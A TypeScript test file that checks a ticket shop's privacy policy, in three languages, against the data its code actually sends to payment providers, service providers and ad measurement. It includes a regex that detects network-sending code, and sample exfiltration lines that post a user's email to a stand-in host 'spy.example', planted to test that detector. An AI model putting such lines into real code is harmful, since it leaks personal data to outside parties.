import { globSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CODE_TYPES, LINK_TYPES, toCodeRequest, toLinkRequest } from '#boxoffice/providers/adyen/adyenRequests.ts';
import { toChargeRequest, toDanaRequest } from '#boxoffice/providers/midtrans/midtransRequests.ts';
import type { ProviderPayment } from '#boxoffice/providers/paymentProvider.ts';
import type { ArticleBlock, ArticleSection } from '#client/features/article/articleWords.ts';
import { toConversionAddress } from '#client/pages/result/toConversionAddress.ts';
import type { PaymentMethod } from '#shared/domain/selling/paymentMethods.ts';

/** Recipients of data, by the file that sends it. The policy explains those of `RECIPIENTS`. */
const SENDERS: Record<string, 'the shop' | 'no data of a person' | 'a link' | keyof typeof RECIPIENTS> = {
  'boxoffice/people/messages/smsTransport.ts': 'service providers',
  'boxoffice/people/messages/smtpTransport.ts': 'service providers',
  'boxoffice/providers/sandbox/sendNotices.ts': 'the shop',
  'boxoffice/providers/sendJson.ts': 'payment providers',
  'boxoffice/rooms/drawPlaces.ts': 'no data of a person',
  'client/features/countdown/measureOffset.ts': 'the shop',
  'client/features/customerService/serviceChannels.ts': 'a link',
  'client/features/venueTime/createVenueTime.ts': 'a link',
  'client/pages/activity/toEventJsonLd.ts': 'no data of a person',
  'client/pages/result/toConversionAddress.ts': 'ad measurement',
  'client/pages/room/readProof.ts': 'the shop',
  'client/pages/room/watchRoom.ts': 'the shop',
  'client/platform/browserFetch.ts': 'the shop',
  'server/adapter/createAdapterTools.ts': 'the shop',
  'server/bff/loginAnswer.ts': 'the shop',
  'server/bff/probeCalls.ts': 'no data of a person',
  'server/bff/upstreamFetch.ts': 'the shop',
  'server/images/pictureMaker.ts': 'no data of a person',
  'server/ops/askUpstream.ts': 'the shop',
  'server/rooms/keptFiles.ts': 'the shop',
  'shared/contract/createCaller.ts': 'the shop',
  'shared/domain/paths/appDownload.ts': 'a link',
};
const SENDS =
  /from 'undici'|(?<![.\w])fetch\(|createTransport\(\{|sendBeacon\(|new (?:WebSocket|EventSource)\(|`https:\/\/(?!\$)/;

/** Names of the recipients in each language. */
const RECIPIENTS = {
  'service providers': { en: 'Service providers', id: 'Penyedia layanan', 'zh-HK': '服務商' },
  'payment providers': { en: 'Payment providers', id: 'Penyedia pembayaran', 'zh-HK': '付款服務商' },
  'ad measurement': { en: 'Ad measurement', id: 'Pengukuran iklan', 'zh-HK': '廣告成效分析' },
};

/** Names that the policy uses for each fact that a payment provider gets. */
const FACTS = {
  payment: { en: 'the payment’s number', id: 'nomor pembayaran', 'zh-HK': '付款編號' },
  amount: { en: 'the amount', id: 'jumlah', 'zh-HK': '金額' },
  currency: { en: 'the currency', id: 'mata uang', 'zh-HK': '貨幣' },
  title: { en: 'event and order number', id: 'acara dan nomor pesanan', 'zh-HK': '活動及訂單編號' },
  language: { en: 'the language', id: 'bahasa', 'zh-HK': '語言' },
  name: { en: 'your name', id: 'nama', 'zh-HK': '您的姓名' },
  email: { en: 'your e-mail address', id: 'alamat email', 'zh-HK': '電郵地址' },
  phone: { en: 'your phone number', id: 'nomor telepon', 'zh-HK': '電話號碼' },
};

/** Facts by the provider's field. `none` marks a field that contains none of these facts. */
const FIELDS: Record<string, keyof typeof FACTS | 'none'> = {
  merchantAccount: 'none',
  reference: 'payment',
  'amount.value': 'amount',
  'amount.currency': 'currency',
  'allowedPaymentMethods.0': 'none',
  'paymentMethod.type': 'none',
  countryCode: 'currency',
  shopperLocale: 'language',
  description: 'title',
  returnUrl: 'payment',
  expiresAt: 'none',
  sessionValidity: 'none',
  reusable: 'none',
  captureDelayHours: 'none',
  channel: 'none',
  shopperEmail: 'email',
  telephoneNumber: 'phone',
  'transaction_details.order_id': 'payment',
  'transaction_details.gross_amount': 'amount',
  'item_details.0.id': 'none',
  'item_details.0.name': 'title',
  'item_details.0.category': 'none',
  'item_details.0.price': 'amount',
  'item_details.0.quantity': 'none',
  'item_details.0.url': 'none',
  'customer_details.first_name': 'name',
  'customer_details.last_name': 'name',
  'customer_details.email': 'email',
  'customer_details.phone': 'phone',
  payment_type: 'none',
  'qris.acquirer': 'none',
  'bank_transfer.bank': 'none',
  'custom_expiry.expiry_duration': 'none',
  'custom_expiry.unit': 'none',
  'enabled_payments.0': 'none',
  'dana.callback_url': 'payment',
  'callbacks.finish': 'payment',
  'expiry.start_time': 'none',
  'expiry.unit': 'none',
  'expiry.duration': 'none',
};

const NOW = new Date('2026-11-26T04:00:00Z');
const pay = (method: PaymentMethod, currency: ProviderPayment['currency']): ProviderPayment => ({
  paymentId: '7b1f0f0e-0000-4000-8000-000000000001',
  method,
  shape: 'redirect',
  amount: 100_000,
  currency,
  title: 'Gala · FR-1',
  languageCode: 'id',
  expiresAt: new Date('2026-11-26T04:15:00Z'),
  returnUrls: { success: 'https://shop.test/done', cancel: 'https://shop.test/no', fail: 'https://shop.test/no' },
  buyer: { name: 'Ana Lim', phone: '62-812345678', email: 'ana@example.com' },
});
const methodsOf = (types: object) => Object.keys(types) as PaymentMethod[];
const REQUESTS: object[] = [
  ...methodsOf(LINK_TYPES).map((method) => toLinkRequest(pay(method, 'HKD'), 'shop')),
  ...methodsOf(CODE_TYPES).map((method) => toCodeRequest(pay(method, 'SGD'), 'shop')),
  ...(['qris', 'bniVa', 'kredivo'] as const).map((method) => toChargeRequest(pay(method, 'IDR'), NOW)),
  toDanaRequest(pay('dana', 'IDR'), NOW),
];

describe.each(['en', 'id', 'zh-HK'] as const)('the privacy policy in %s', (textSet) => {
  const { sections } = JSON.parse(readFileSync(`locales/${textSet}/privacy.json`, 'utf8')) as {
    sections: ArticleSection[];
  };
  const textOf = (section: string) => JSON.stringify(sections.find(({ id }) => id === section)!.body);
  const termsOf = (section: string) => sections.find(({ id }) => id === section)!.body.flatMap(readTerms);

  it('names every fact that a payment provider gets', () => {
    const sent = new Set(REQUESTS.flatMap(listFields).map((field) => FIELDS[field] ?? `unknown: ${field}`));
    const said = Object.entries(FACTS).flatMap(([fact, names]) =>
      textOf('payments').includes(names[textSet]) ? [fact] : [],
    );

    expect([...sent].filter((fact) => fact !== 'none').toSorted()).toEqual(said.toSorted());
  });

  it('names every recipient', () => {
    const recipients = Object.values(SENDERS).flatMap((name) =>
      name in RECIPIENTS ? [RECIPIENTS[name as keyof typeof RECIPIENTS][textSet]] : [],
    );

    expect(termsOf('sharing')).toEqual(expect.arrayContaining(recipients));
  });
});

it('[S-204] the table lists every file that sends data, with its recipient', () => {
  const files = globSync('{server,shared,boxoffice,client}/**/*.{ts,tsx}', { exclude: ['**/*.test.*'] });

  expect(findSenders(new Map(files.map((file) => [file, readFileSync(file, 'utf8')])))).toEqual(
    Object.keys(SENDERS).toSorted(),
  );
});

it('an ad conversion contains nothing about an order but its amount, currency and number', () => {
  const purchase = { orderId: '1', money: { amount: 100, currency: 'SGD' } } as const;
  const { searchParams } = new URL(toConversionAddress('AW-1/label', purchase));

  expect([...searchParams.keys()]).toEqual(['label', 'value', 'currency_code', 'oid', 'guid', 'script']);
});

it.each([
  ["const answer = await fetch('https://spy.example', { body: email })"],
  ["navigator.sendBeacon('/spy', email)"],
  ["import { request } from 'undici';"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a source text.
  ['const spy = `https://spy.example/?mail=${email}`'],
])('detects that this code sends data: %s', (planted) => {
  expect(findSenders(new Map([['client/planted.ts', planted]]))).toEqual(['client/planted.ts']);
});

it('finds a planted field in a request to a provider', () => {
  const planted = { ...toCodeRequest(pay('paynow', 'SGD'), 'shop'), shopperName: { lastName: 'Lim' } };

  expect(listFields(planted).filter((field) => !(field in FIELDS))).toEqual(['shopperName.lastName']);
});

function listFields(value: object): string[] {
  return Object.entries(value).flatMap(([key, part]) => {
    if (part === undefined) return [];
    return typeof part === 'object' ? listFields(part).map((field) => `${key}.${field}`) : [key];
  });
}

function findSenders(sources: ReadonlyMap<string, string>): string[] {
  return [...sources].flatMap(([file, text]) => (SENDS.test(text) ? [file] : [])).toSorted();
}

function readTerms(block: ArticleBlock): string[] {
  return typeof block === 'object' && 'terms' in block ? block.terms.map(({ term }) => term) : [];
}
